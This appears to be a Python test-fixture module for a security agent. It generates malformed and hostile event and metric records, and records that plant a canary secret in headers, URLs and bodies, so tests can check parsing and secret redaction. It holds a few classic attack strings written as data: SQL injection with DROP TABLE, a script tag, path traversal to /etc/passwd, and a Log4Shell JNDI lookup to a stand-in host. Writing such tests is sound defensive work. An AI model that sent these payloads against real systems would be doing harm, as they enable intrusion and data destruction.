"""
Records as attackers and careless applications make them, as the enrichers see them.

Every record has been through the same bounded copy as in the agent, so its fields are plain JSON
data besides ``timestamp``, and no more than an enricher has to expect.
"""

from __future__ import annotations

import json
from datetime import datetime, timezone
from typing import TYPE_CHECKING, Any
from uuid import UUID

from guard_agent.core.intake.snapshot import snapshot

if TYPE_CHECKING:
    from guard_agent import Fields, Kind

SECRET = "canary-7f3a9c51-value"  # noqa: S105 - looked for in what should hold no secret any more
"""Planted in the records of `secret_records`; part of nothing else."""

_EVENT = {
    "timestamp": datetime(2026, 1, 31, 12, tzinfo=timezone.utc),
    "event_type": "penetration_attempt",
    "ip_address": "203.0.113.7",
    "country": "DE",
    "user_agent": "Mozilla/5.0",
    "action_taken": "request_blocked",
    "reason": "SQL injection in the query",
    "endpoint": "/items",
    "method": "GET",
    "status_code": 400,
    "response_time": 0.012,
    "metadata": {"request_count": 1},
}
_METRIC = {
    "timestamp": datetime(2026, 1, 31, 12, tzinfo=timezone.utc),
    "metric_type": "response_time",
    "value": 0.012,
    "endpoint": "/items",
    "tags": {"method": "GET", "status": "200"},
}

_TEXTS = (
    "",
    " ",
    "x" * 60_000,
    "\u0000\u0007\u001b[2J\u007f\r\n\t",
    "\u2028\u2029\u202e\ufeff\u200b",
    "\u00fc\u4e2d\u6587\U0001f6e1\u0644",
    "\udce4 a lone surrogate",
    "\ufdfa" * 500,
    "' OR 1=1; DROP TABLE users; --",
    "<script>alert(1)</script>",
    "../../../../etc/passwd%00",
    "${jndi:ldap://192.0.2.1/a}",
    "%s%n%x{0}{}%(name)s",
    "[" * 5_000,
    '{"a":' * 2_000,
    "%25" * 5_000,
    "token=" * 2_000,
    "=" * 5_000,
)

_VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    2**63,
    10**400,
    1e308,
    float("nan"),
    float("inf"),
    [],
    {},
    [[[[[[[[1]]]]]]]],
    {"": {"": {"": ""}}},
    {"a.b": {"c.d": 1}, "__proto__": {"x": 1}, "$ref": "#", "\u0000": 1, "0": 0},
    {f"key {n}": n for n in range(1_500)},
    list(range(1_500)),
    ["x" * 40 for _ in range(1_000)],
    b"\xff\x00bytes",
    {2: "two", None: "none", True: "true"},
)


def hostile_records(kind: Kind) -> list[Fields]:
    """Records of ``kind``, hostile in one place each; new ones with each call."""
    base = _EVENT if kind == "event" else _METRIC
    sources: list[dict[str, Any]] = [{**base}]
    for name in base:
        if name == "timestamp":
            continue
        sources += [{**base, name: value} for value in (*_TEXTS, *_VALUES)]
        sources.append({key: value for key, value in base.items() if key != name})
    bag = "metadata" if kind == "event" else "tags"
    sources += [{**base, bag: {"note": text}} for text in _TEXTS]
    sources += [{**base, bag: {text[:200]: "note"}} for text in _TEXTS]
    sources += [{**base, bag: {"note": value}} for value in _VALUES]
    sources += [{**base, bag: {"list": [value, {"deeper": value}]}} for value in _VALUES]
    sources.append({**base, **{f"extra {n}": n for n in range(150)}})
    return [_made(number, source) for number, source in enumerate(sources)]


def ordinary_record(kind: Kind) -> Fields:
    """A record of ``kind`` as nearly all are; a new one with each call."""
    return _made(0, _EVENT if kind == "event" else _METRIC)


def secret_records() -> list[Fields]:
    """Events in which `SECRET` stands where secrets stand; new ones with each call."""
    headers = {
        "Authorization": f"Bearer {SECRET}",
        "Proxy-Authorization": f"Basic {SECRET}",
        "Cookie": f"theme=dark; session={SECRET}",
        "X-Api-Key": SECRET,
    }
    sources: list[dict[str, Any]] = [
        {"metadata": {"headers": {name: value}}} for name, value in headers.items()
    ]
    sources += [{"metadata": {"headers": {name.lower(): value}}} for name, value in headers.items()]
    sources += [
        {"metadata": {name: SECRET}}
        for name in ("password", "db_password", "api_key", "apiKey", "client_secret", "token")
    ]
    sources += [
        {"endpoint": f"/login?user=a&password={SECRET}&page=2"},
        {"reason": f"refused: Authorization: Bearer {SECRET}"},
        {"reason": f"query token={SECRET} was refused"},
        {"metadata": {"url": f"https://alice:{SECRET}@example.com/"}},
        {"metadata": {"body": json.dumps({"user": "a", "password": SECRET})}},
        {"metadata": {"list": [{"deep": {"access_token": SECRET}}]}},
        {"pattern_matched": f"api_key={SECRET}"},
    ]
    return [_made(number, {**_EVENT, **source}) for number, source in enumerate(sources)]


def _made(number: int, source: dict[str, Any]) -> Fields:
    fields = snapshot(source)
    fields["idempotency_key"] = str(UUID(int=number))
    return fields
